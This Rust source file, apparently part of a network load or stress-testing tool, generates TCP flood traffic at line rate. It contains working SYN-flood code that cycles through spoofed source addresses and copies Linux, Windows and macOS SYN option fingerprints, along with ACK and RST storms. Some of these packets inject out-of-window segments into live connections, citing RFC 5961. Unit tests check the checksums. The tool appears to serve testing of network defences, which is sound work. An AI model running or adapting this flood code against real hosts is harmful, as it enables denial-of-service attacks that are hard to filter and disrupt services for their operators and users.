//! Floods of whole segments: from templates, of which a packet patches a few fields and their part of the sums.

use hioload_device::{Device, checksum};

use crate::plan::AttackKind;
use crate::rng::Rng;
use crate::sources::Sources;
use crate::tx::TxQueue;
use crate::wire::{Address, Header, Link, Live, TCP_HEADER, flag, fold};

/// Ethernet with a tag, IPv6, TCP with all the options there can be.
const LONGEST: usize = 14 + 4 + 40 + 60;
/// Payload of the acknowledgements that have some.
const PAYLOAD: usize = 16;
/// The half of the sequence space that lies on the other side of everything a connection has in flight.
const FAR: u32 = 1 << 30;

/// MSS, SACK permitted, timestamps, NOP, window scale 7: a SYN of Linux.
const LINUX: [u8; 20] = [
    2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
];
/// MSS, NOP, window scale 8, two NOPs, SACK permitted: of Windows.
const WINDOWS: [u8; 12] = [2, 4, 5, 0xb4, 1, 3, 3, 8, 1, 1, 4, 2];
/// MSS, NOP, window scale 6, two NOPs, timestamps, SACK permitted, end: of macOS.
const MACOS: [u8; 24] = [
    2, 4, 5, 0xb4, 1, 3, 3, 6, 1, 1, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 4, 2, 0, 0,
];

/// What differs between the segments of a template.
#[derive(Clone, Copy)]
struct Fields {
    source: Address,
    port: u16,
    seq: u32,
    ack: u32,
    /// Identification of IPv4, and the lower half of the timestamp.
    id: u16,
}

/// A segment whose source, numbers and timestamp are left out, and the sums of the rest.
#[derive(Clone)]
struct Template {
    bytes: [u8; LONGEST],
    len: usize,
    ip: usize,
    tcp: usize,
    v6: bool,
    timestamp: Option<usize>,
    ip_sum: u64,
    tcp_sum: u64,
}

impl Template {
    fn new(link: &Link, flags: u8, window: u16, ttl: u8, options: &[u8], payload: usize) -> Self {
        let mut bytes = [0; LONGEST];
        let header = Header {
            flags,
            window,
            options,
            ..Header::default()
        };
        let len = link.segment(&mut bytes, (0, 0), &header, payload, |bytes| {
            bytes.fill(0xa5);
        });
        let (ip, tcp) = (link.ip_at(), link.tcp_at());
        bytes[ip + if link.v6 { 7 } else { 8 }] = ttl;
        bytes[tcp + 16..tcp + 18].fill(0);
        if !link.v6 {
            bytes[ip + 10..ip + 12].fill(0);
        }
        let timestamp = options.windows(2).position(|pair| pair == [8, 10]);
        Self {
            ip_sum: checksum::sum(&bytes[ip..tcp]).into(),
            tcp_sum: link.pseudo(0, crate::wire::TCP, len - tcp)
                + u64::from(checksum::sum(&bytes[tcp..len])),
            timestamp: timestamp.map(|at| tcp + TCP_HEADER + at + 4),
            bytes,
            len,
            ip,
            tcp,
            v6: link.v6,
        }
    }

    /// Writes a segment; gives its length.
    #[inline]
    fn stamp(&self, out: &mut [u8], fields: &Fields) -> usize {
        let out = &mut out[..self.len];
        out.copy_from_slice(&self.bytes[..self.len]);
        let halves = |word: u32| u64::from(word >> 16) + u64::from(word & 0xffff);
        let source = fields.source;
        let source_sum = if self.v6 {
            out[self.ip + 8..self.ip + 24].copy_from_slice(&source.to_be_bytes());
            let part = |shift: u32| halves((source >> shift) as u32);
            part(0) + part(32) + part(64) + part(96)
        } else {
            let sum = halves(source as u32);
            out[self.ip + 12..self.ip + 16].copy_from_slice(&(source as u32).to_be_bytes());
            out[self.ip + 4..self.ip + 6].copy_from_slice(&fields.id.to_be_bytes());
            let header = !fold(self.ip_sum + sum + u64::from(fields.id));
            out[self.ip + 10..self.ip + 12].copy_from_slice(&header.to_be_bytes());
            sum
        };
        let mut sum = self.tcp_sum
            + source_sum
            + u64::from(fields.port)
            + halves(fields.seq)
            + halves(fields.ack);
        let tcp = self.tcp;
        out[tcp..tcp + 2].copy_from_slice(&fields.port.to_be_bytes());
        out[tcp + 4..tcp + 8].copy_from_slice(&fields.seq.to_be_bytes());
        out[tcp + 8..tcp + 12].copy_from_slice(&fields.ack.to_be_bytes());
        if let Some(at) = self.timestamp {
            // At an even offset, as it is in all of the options above: so it is a word of the sum.
            out[at..at + 2].copy_from_slice(&fields.id.to_be_bytes());
            sum += u64::from(fields.id);
        }
        out[tcp + 16..tcp + 18].copy_from_slice(&(!fold(sum)).to_be_bytes());
        self.len
    }
}

/// A step that visits all of `len` places, neighbours far apart: about the golden section, without a common factor.
fn stride(len: u64) -> u64 {
    let gcd = |mut a: u64, mut b: u64| {
        while b > 0 {
            (a, b) = (b, a % b);
        }
        a
    };
    let mut stride = (len as f64 * 0.618) as u64 + 1;
    while gcd(stride, len) != 1 {
        stride += 1;
    }
    stride
}

/// A flood on one lcore.
pub(crate) struct Flood {
    kind: AttackKind,
    /// Percent of the packets that go to the load's own connections.
    live: u8,
    rng: Rng,
    /// The last source of a SYN, and the way to the next.
    walk: (u64, u64),
    templates: Vec<Template>,
}

impl Flood {
    pub(crate) fn new(kind: AttackKind, seed: u64, live: u8, sources: &Sources) -> Self {
        let mut rng = Rng::new(seed);
        let walk = (rng.below(sources.len()), stride(sources.len()));
        Self {
            kind,
            live,
            rng,
            walk,
            templates: Vec::with_capacity(3),
        }
    }

    /// The way to the target is known, or another one.
    pub(crate) fn set_link(&mut self, link: &Link) {
        self.templates.clear();
        let (push, window) = (flag::ACK | flag::PSH, 512);
        match self.kind {
            AttackKind::SynFlood => self.templates.extend([
                Template::new(link, flag::SYN, 64_240, 64, &LINUX, 0),
                Template::new(link, flag::SYN, 64_240, 128, &WINDOWS, 0),
                Template::new(link, flag::SYN, 65_535, 64, &MACOS, 0),
            ]),
            AttackKind::AckStorm => self.templates.extend([
                Template::new(link, flag::ACK, window, 64, &[], 0),
                Template::new(link, push, window, 64, &[], PAYLOAD),
                // It would close the window, too.
                Template::new(link, flag::ACK | flag::FIN, 0, 64, &[], 0),
            ]),
            _ => self.templates.extend([
                Template::new(link, flag::RST, 0, 64, &[], 0),
                Template::new(link, flag::RST | flag::ACK, 0, 64, &[], 0),
                Template::new(link, flag::SYN, 64_240, 64, &LINUX, 0),
            ]),
        }
    }

    /// Sends what is due.
    pub(crate) fn send_due<D: Device>(
        &mut self,
        tx: &mut TxQueue<'_, D>,
        sources: &Sources,
        live: Option<&Live>,
    ) {
        while tx.is_open() {
            let dice = self.rng.next();
            let which = (dice >> 32) as usize % 3;
            let aimed =
                live.filter(|live| live.settled && self.live > 0 && self.rng.chance(self.live));
            let (which, fields) = match aimed {
                Some(live) => (which, self.at_live(live, which)),
                None => self.unrelated(sources, which, dice as u16),
            };
            let Some(template) = self.templates.get(which) else {
                return;
            };
            tx.send(template.len, |out| template.stamp(out, &fields));
        }
    }

    /// A segment of no connection.
    #[inline]
    fn unrelated(&mut self, sources: &Sources, which: usize, id: u16) -> (usize, Fields) {
        let index = if self.kind == AttackKind::SynFlood {
            // None comes again before all have been there.
            self.walk.0 = (self.walk.0 + self.walk.1) % sources.len();
            self.walk.0
        } else {
            self.rng.below(sources.len())
        };
        let (source, port) = sources.get(index);
        let numbers = self.rng.next();
        let fields = Fields {
            source,
            port,
            seq: numbers as u32,
            ack: if self.kind == AttackKind::SynFlood {
                0
            } else {
                (numbers >> 32) as u32
            },
            id,
        };
        // A storm of resets has SYNs for what is open alone: others would be a flood of SYNs.
        let which = if self.kind == AttackKind::RstStorm {
            which & 1
        } else {
            which
        };
        (which, fields)
    }

    /// A segment of a connection of the load's that a receiver has to refuse. What was sent on it last is `live`, so the next byte
    /// expected lies before or at `live.next`.
    fn at_live(&mut self, live: &Live, which: usize) -> Fields {
        let numbers = self.rng.next();
        let ahead = 1 + (numbers as u32 & 0x7fff);
        let inside = numbers >> 62 & 1 == 0;
        let (seq, ack) = match self.kind {
            // In the window, with an acknowledgement of what was never sent, or long ago: not even its payload counts (RFC 5961
            // §5).
            AttackKind::AckStorm => {
                let off = FAR + (numbers >> 32) as u32 % FAR;
                let ack = if numbers >> 63 == 0 {
                    live.ack.wrapping_add(off)
                } else {
                    live.ack.wrapping_sub(off)
                };
                let seq = if which == 1 && inside {
                    live.next
                } else {
                    live.next.wrapping_add(ahead)
                };
                (seq, ack)
            }
            // In the window and not the next byte, or beyond it (RFC 5961 §3.2).
            _ if inside => (live.next.wrapping_add(ahead), live.ack),
            _ => (live.next.wrapping_add(FAR + ahead), live.ack),
        };
        Fields {
            source: live.source,
            port: live.port,
            seq,
            ack,
            id: (numbers >> 16) as u16,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::{Parts, Segment, TCP};

    fn links() -> [Link; 3] {
        let link = Link {
            next_hop_mac: [2, 0, 0, 0, 0, 1],
            own_mac: [2, 0, 0, 0, 0, 2],
            tag: None,
            v6: false,
            target: 0x0a4d_0002,
            port: 9001,
        };
        let six = Link {
            v6: true,
            target: 0xfd77_u128 << 112 | 2,
            ..link
        };
        [
            link,
            six,
            Link {
                tag: Some([0, 77]),
                ..six
            },
        ]
    }

    #[test]
    fn a_walk_visits_all_places() {
        for len in 1..300 {
            let (mut at, mut seen) = (0, vec![false; len]);
            for _ in 0..len {
                at = (at + stride(len as u64) as usize) % len;
                seen[at] = true;
            }
            assert!(seen.into_iter().all(|seen| seen), "{len}");
        }
    }

    #[test]
    fn what_is_stamped_is_what_is_written_as_a_whole() {
        let mut rng = Rng::new(3);
        for link in links() {
            for (options, flags, payload) in [
                (&LINUX[..], flag::SYN, 0),
                (&WINDOWS, flag::SYN, 0),
                (&MACOS, flag::SYN, 0),
                (&[], flag::ACK, PAYLOAD),
            ] {
                let template = Template::new(&link, flags, 512, 64, options, payload);
                for _ in 0..500 {
                    let numbers = rng.next();
                    let fields = Fields {
                        source: if link.v6 {
                            u128::from(rng.next()) << 64 | u128::from(rng.next())
                        } else {
                            u128::from(rng.next() as u32)
                        },
                        port: rng.next() as u16,
                        seq: numbers as u32,
                        ack: (numbers >> 32) as u32,
                        id: rng.next() as u16,
                    };
                    let mut out = [0; LONGEST];
                    let len = template.stamp(&mut out, &fields);
                    let parts = Parts::of(&out[..len]).expect("an IP packet");
                    assert_eq!((parts.end, parts.protocol), (len, TCP));
                    let segment = Segment::of(&out, &parts).expect("a segment");
                    assert_eq!((segment.source, segment.from), (fields.source, fields.port));
                    assert_eq!((segment.destination, segment.to), (link.target, 9001));
                    assert_eq!((segment.seq, segment.ack), (fields.seq, fields.ack));
                    assert_eq!((segment.flags, segment.window), (flags, 512));
                    assert_eq!(segment.payload.len(), payload);
                    let tcp = &out[parts.transport..len];
                    let sum =
                        link.pseudo(fields.source, TCP, tcp.len()) + u64::from(checksum::sum(tcp));
                    assert_eq!(fold(sum), 0xffff, "of TCP");
                    if !link.v6 {
                        let header = &out[parts.ip..parts.transport];
                        assert_eq!(checksum::sum(header), 0xffff, "of IPv4");
                    }
                    let link_again = Link::of(&out[..len], ([10, 77, 0, 2], 9001).into());
                    if !link.v6 {
                        assert_eq!(link_again, Some(link));
                    }
                }
            }
        }
    }
}
